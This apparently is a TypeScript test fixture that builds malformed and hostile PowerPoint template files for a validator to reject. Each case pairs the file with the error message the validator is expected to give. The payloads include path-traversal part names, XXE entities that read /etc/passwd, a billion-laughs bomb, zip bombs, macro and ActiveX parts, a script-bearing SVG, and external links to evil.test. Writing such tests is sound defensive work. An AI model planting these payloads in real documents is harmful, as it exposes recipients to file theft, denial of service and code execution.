/** Templates that mean harm, or are none: what they are, and what their owner must be told. */
import { madeTemplate, relation, relations, templateParts } from './made-template.ts';
import { type MadePart, madeZip } from './made-zip.ts';

const MEGABYTES = 1024 * 1024;
const withParts = (...parts: MadePart[]) => madeTemplate({ parts });
const external = ' TargetMode="External"';
const master = 'ppt/slideMasters/slideMaster1.xml';
const layoutRels = 'ppt/slideLayouts/_rels/slideLayout3.xml.rels';
const toMaster = relation('rId1', 'slideMaster', '../slideMasters/slideMaster1.xml');
const onLayout = (more: string) => withParts({ name: layoutRels, content: relations(toMaster + more) });

function replaced(name: string, change: (text: string) => string): Buffer {
  const parts = templateParts();
  return madeZip(parts.map((part) => (part.name === name ? { ...part, content: change(String(part.content)) } : part)));
}

const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

export function hostileTemplates(): Record<string, readonly [file: Buffer, said: RegExp]> {
  const sound = madeTemplate();
  const zeros = Buffer.alloc(100 * MEGABYTES, ' ');
  const [types = { name: '', content: '' }, ...rest] = templateParts();
  return {
    'an empty file': [Buffer.alloc(0), /not a PowerPoint file/],
    'a text': [Buffer.from('%PDF-1.7 hello'), /not a PowerPoint file/],
    'a file with a password': [Buffer.from('d0cf11e0a1b11ae1'.padEnd(4096, '0'), 'hex'), /password/],
    'an encrypted part': [madeZip([{ ...types, lies: { flags: 1 } }, ...rest]), /password/],
    'another kind of package': [madeZip([{ name: 'word/document.xml', content: '<a/>' }]), /not a PowerPoint file/],
    'the first half': [sound.subarray(0, sound.length / 2), /no end record/],
    'parts that unpack to 200 megabytes': [
      withParts(...['a', 'b'].map((name) => ({ name: `ppt/slides/${name}.xml`, content: zeros }))),
      /at most 128 MB/,
    ],
    'a part that hides its size': [
      withParts({ name: 'ppt/slides/a.xml', content: Buffer.concat([zeros, zeros]), lies: { sizeBytes: 10 } }),
      /at most 128 MB/,
    ],
    'parts that share their bytes': [withParts({ name: 'ppt/a', content: 'x', lies: { offset: 0 } }), /share bytes/],
    'two parts of one name': [madeZip([...templateParts(), ...templateParts()]), /two parts of one name/],
    'two parts that differ in capitals': [
      withParts({ name: 'PPT/Presentation.xml', content: '<a/>' }),
      /two parts named PPT\/Presentation.xml/,
    ],
    'six thousand parts': [
      withParts(...Array.from({ length: 6_000 }, (_, at) => ({ name: `p${at}`, content: '' }))),
      /too many parts/,
    ],
    'a name with dots': [withParts({ name: '../../etc/cron.d/x', content: 'x' }), /not allowed: \.\.\/\.\./],
    'a name from the root': [withParts({ name: '/etc/passwd', content: 'x' }), /not allowed: \/etc/],
    'a name of another system': [withParts({ name: 'ppt\\..\\x', content: 'x' }), /not allowed/],
    'a relation out of the package': [onLayout(relation('rId2', 'image', '../../../../etc/passwd')), /not allowed/],
    'a picture from the web': [
      onLayout(relation('rId2', 'image', 'https://evil.test/a.png', external)),
      /points to https:\/\/evil\.test\/a\.png/,
    ],
    'a picture from the web that says it is inside': [
      onLayout(relation('rId2', 'image', 'https://evil.test/a.png')),
      /points to/,
    ],
    'a picture of the network': [onLayout(relation('rId2', 'image', '\\\\evil\\a.png', external)), /points to/],
    'a template of its own elsewhere': [
      withParts({
        name: 'ppt/_rels/presentation.xml.rels',
        content: relations(
          relation('rId1', 'slideMaster', 'slideMasters/slideMaster1.xml') +
            relation('rId2', 'attachedTemplate', 'http://evil.test/t.potm', external),
        ),
      }),
      /points to http:\/\/evil/,
    ],
    'a master elsewhere': [
      withParts({
        name: 'ppt/_rels/presentation.xml.rels',
        content: relations(relation('rId1', 'slideMaster', 'http://evil.test/m.xml', external)),
      }),
      /points to/,
    ],
    'a link on a layout': [onLayout(relation('rId2', 'hyperlink', 'https://evil.test', external)), /points to/],
    macros: [withParts({ name: 'ppt/vbaProject.bin', content: 'x' }), /macros \(ppt\/vbaProject\.bin\)/],
    'macros by another name': [
      replaced('[Content_Types].xml', (text) =>
        text.replace('presentationml.template.main', 'ms-powerpoint.template.macroEnabled.main'),
      ),
      /macros/,
    ],
    'a control': [withParts({ name: 'ppt/activeX/activeX1.xml', content: '<a/>' }), /embedded object or a control/],
    'an embedded object': [withParts({ name: 'ppt/embeddings/oleObject1.bin', content: 'x' }), /embedded object/],
    'an object on a master': [
      madeTemplate({ masterRelations: relation('rId20', 'oleObject', '../embeddings/a.xlsx') }),
      /embedded object/,
    ],
    'a workbook on a master': [
      madeTemplate({
        masterRelations: relation('rId20', 'package', '../embeddings/a.xlsx'),
        parts: [{ name: 'ppt/embeddings/a.xlsx', content: 'x' }],
      }),
      /cannot have \(package/,
    ],
    'a button that runs a programme': [
      madeTemplate({ masterShapes: '<a:hlinkClick action="ppaction://program?file=calc.exe"/>' }),
      /ppaction:\/\/program/,
    ],
    'an entity from outside': [
      replaced(master, (text) =>
        text.replace('<p:sldMaster', '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p:sldMaster'),
      ),
      /document type definition in ppt\/slideMasters/,
    ],
    'laughing entities': [
      withParts({ name: 'ppt/theme/theme1.xml', content: `<!DOCTYPE w [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>` }),
      /document type definition in ppt\/theme/,
    ],
    'an entity on a slide': [
      withParts({ name: 'ppt/slides/slide1.xml', content: '<!DOCTYPE w SYSTEM "http://evil.test/"><a/>' }),
      /document type definition/,
    ],
    'another encoding': [withParts({ name: master, content: Buffer.from('\ufeff<a/>', 'utf16le') }), /not in UTF-8/],
    'a picture with a script': [
      withParts(
        { name: 'ppt/media/a.svg', content: '<svg><script>alert(1)</script></svg>' },
        { name: layoutRels, content: relations(toMaster + relation('rId2', 'image', '../media/a.svg')) },
      ),
      /macros/,
    ],
    'a picture that loads another': [
      withParts(
        { name: 'ppt/media/a.svg', content: '<svg><image href="http://evil.test/a"/></svg>' },
        { name: layoutRels, content: relations(toMaster + relation('rId2', 'image', '../media/a.svg')) },
      ),
      /points to http:\/\/evil/,
    ],
    'a picture that is a programme': [
      withParts(
        { name: 'ppt/media/a.exe', content: 'MZ' },
        { name: layoutRels, content: relations(toMaster + relation('rId2', 'image', '../media/a.exe')) },
      ),
      /cannot have \(exe/,
    ],
    'a master that is not well-formed': [replaced(master, (text) => text.slice(0, -20)), /cannot be read/],
    'a hundred thousand elements inside each other': [
      withParts({ name: master, content: '<a>'.repeat(100_000) }),
      /too many XML/,
    ],
    'three million relations': [
      withParts(
        ...Array.from({ length: 30 }, (_, at) => ({
          name: `ppt/slides/_rels/s${at}.xml.rels`,
          content: `<R>${'<Relationship Id="a" Type="b" Target="c"/>'.repeat(95_000)}</R>`,
        })),
      ),
      /more than 50000 relations/,
    ],
    'half a million elements on a master': [
      madeTemplate({ masterShapes: '<a:x/>'.repeat(500_000) }),
      /more than 400000 tags/,
    ],
    'tags of add-ins that never end': [
      madeTemplate({
        masterShapes: '<p:custDataLst>'.repeat(200_000),
        masterRelations:
          '<Relationship Id="rId30" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/tags" Target="../tags/tag1.xml"/>',
      }),
      /cannot be read/,
    ],
    'a relation that leads nowhere': [madeTemplate({ masterShapes: '<a:blip r:embed="rId77"/>' }), /leads nowhere/],
    'a part that is not there': [onLayout(relation('rId2', 'image', '../media/none.png')), /no ppt\/media\/none\.png/],
    'no title on any layout': [
      madeZip(
        templateParts().map((part) =>
          /slideLayout\d\.xml$/.test(part.name)
            ? { ...part, content: String(part.content).replace(/type="(?:ctrT|t)itle"\/>/, 'type="body"/>') }
            : part,
        ),
      ),
      /no layout with a place for a title/,
    ],
    'slides as wide as a hair': [madeTemplate({ size: [12_192_000, 900] }), /unusual size/],
    'a strict one': [
      replaced('ppt/presentation.xml', (text) =>
        text.replaceAll(
          'http://schemas.openxmlformats.org/presentationml/2006/main',
          'http://purl.oclc.org/ooxml/presentationml/main',
        ),
      ),
      /Strict Open XML/,
    ],
  };
}
